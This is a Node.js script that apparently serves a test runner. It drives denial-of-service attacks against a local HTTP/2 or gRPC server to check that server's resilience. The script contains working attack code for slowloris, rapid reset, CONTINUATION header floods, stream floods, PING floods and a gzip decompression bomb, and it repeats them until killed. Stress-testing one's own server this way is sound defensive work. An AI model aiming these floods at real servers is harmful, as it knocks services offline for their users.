// One attacker, in a process of its own: `node attacker.mjs FOLDER PORT ATTACK PATH PAUSE_MS`, where FOLDER holds libs/wire as the runner built it. Does the same again so long after it
// was cut or told to go, until it is killed.
import { join } from 'node:path';
import { setImmediate as nextTurn, setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';

const [folder, port, attack, path, pauseMs] = process.argv.slice(2);
const { RawPeer } = await import(join(folder, 'test/raw-peer.js'));
const { FrameType } = await import(join(folder, 'src/frames.js'));

/** A stage of an attack lasts so long when nobody cuts it. */
const HELD_MS = 500;
const BOMB_BYTES = 50e6;
const bomb = framed(gzipSync(Buffer.alloc(BOMB_BYTES), { level: 9 }), 1);

const ATTACKS = {
  /** What the attacker's share of the client's core costs alone: it computes and sends nothing. */
  async none() {
    for (const until = performance.now() + 20; performance.now() < until;);
    await nextTurn();
    return [];
  },
  async slowloris() {
    const peers = await Promise.all(Array.from({ length: 200 }, () => RawPeer.connect(Number(port), { preface: false })));
    for (const peer of peers) peer.socket.write('PRI * HT');
    return peers;
  },
  async 'half messages'() {
    const peer = await RawPeer.connect(Number(port));
    const half = Buffer.from([0, 0, 0x3f, 0xff, 0xff, 1, 2, 3]);
    for (let id = 1; id < 1000; id += 2) peer.send(peer.request(id, path), RawPeer.frame(FrameType.DATA, 0, id, half));
    return [peer];
  },
  async 'header flood'() {
    const peer = await RawPeer.connect(Number(port));
    peer.send(
      peer.request(1, path, [], 0),
      ...Array.from({ length: 200 }, () => RawPeer.frame(FrameType.CONTINUATION, 0, 1, Buffer.alloc(1000, 0x82))),
    );
    return [peer];
  },
  async 'rapid reset'() {
    const peer = await RawPeer.connect(Number(port));
    for (let id = 1; id < 20_000 && !isOver(peer); id += 2) {
      peer.send(
        peer.request(id, path),
        RawPeer.frame(FrameType.DATA, 1, id, Buffer.alloc(5)),
        RawPeer.frame(FrameType.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])),
      );
      if (id % 100 === 1) await nextTurn();
    }
    return [peer];
  },
  async '10,000 streams'() {
    const peer = await RawPeer.connect(Number(port));
    for (let id = 1; id < 20_001 && !isOver(peer); id += 2) {
      peer.send(peer.request(id, path));
      if (id % 1000 === 1) await nextTurn();
    }
    return [peer];
  },
  async 'gzip bomb'() {
    const peer = await RawPeer.connect(Number(port));
    for (let id = 1; id < 9; id += 2) {
      peer.send(peer.request(id, path, [['grpc-encoding', 'gzip']]));
      for (let at = 0; at < bomb.length; at += 16_000)
        peer.send(RawPeer.frame(FrameType.DATA, at + 16_000 >= bomb.length ? 1 : 0, id, bomb.subarray(at, at + 16_000)));
    }
    return [peer];
  },
  async 'ping flood'() {
    const peer = await RawPeer.connect(Number(port));
    const ping = RawPeer.frame(FrameType.PING, 0, 0, Buffer.alloc(8));
    peer.send(...Array.from({ length: 10_000 }, () => ping));
    return [peer];
  },
};

for (;;) {
  const peers = await ATTACKS[attack]().catch(() => []);
  const until = performance.now() + HELD_MS;
  while (performance.now() < until && !peers.every(isOver)) await sleep(5);
  for (const peer of peers) peer.socket.destroy();
  if (Number(pauseMs) > 0) await sleep(Number(pauseMs));
}

/** It was cut, or told to go: an attacker in a hurry does not wait for its end. */
function isOver(peer) {
  return peer.closed || peer.goawayCode !== undefined;
}

/** A gRPC message. */
function framed(body, flag) {
  const prefix = Buffer.from([flag, 0, 0, 0, 0]);
  prefix.writeUInt32BE(body.length, 1);
  return Buffer.concat([prefix, body]);
}
